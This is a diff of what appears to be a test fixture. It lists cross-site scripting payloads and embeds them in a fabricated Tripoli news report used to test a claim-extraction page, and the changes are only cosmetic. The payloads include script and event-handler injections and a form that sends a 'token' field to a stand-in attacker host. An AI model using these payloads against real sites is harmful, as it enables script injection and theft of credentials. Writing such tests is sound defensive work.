@@ -1,16 +1,16 @@
-"""Words that try to become part of a page: what a hostile report can put into text, title, publisher, address."""
+"""Words that try to become part of a page: in the text, title, publisher and address of a hostile report."""
 
 SCRIPTS = [
     "<script>alert(1)</script>",
     "</script><script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "<svg/onload=alert(1)>",
-    "\"><svg onload=alert(1)>",
+    '"><svg onload=alert(1)>',
     "' onmouseover='alert(1)' x='",
-    "\" autofocus onfocus=alert(1) x=\"",
+    '" autofocus onfocus=alert(1) x="',
     "javascript:alert(1)",
-    "<a href=\"javascript:alert(1)\">press</a>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    '<a href="javascript:alert(1)">press</a>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
     "</p></div></main><form action=//evil.example><input name=token>",
     "</title><script>alert(1)</script>",
     "</textarea><script>alert(1)</script>",
@@ -36,8 +36,8 @@ SCRIPTS = [
 def make_report(words: str) -> str:
     """A report that the program reads claims from, with `words` where names, places and quotations stand."""
     return (
-        f"TRIPOLI, October 9, 2021. Guards shot dead at least six migrants at the Al-Mabani detention centre in"
-        f" Tripoli on Friday, said {words}.\n\n"
+        f"TRIPOLI, October 9, 2021. Guards shot dead at least six migrants at the Al-Mabani detention centre"
+        f" in Tripoli on Friday, said {words}.\n\n"
         f'The interior minister, Khaled Mazen, said: "{words} only one migrant was killed."\n\n'
         f"{words} told reporters that 24 others were wounded. {words}"
     )
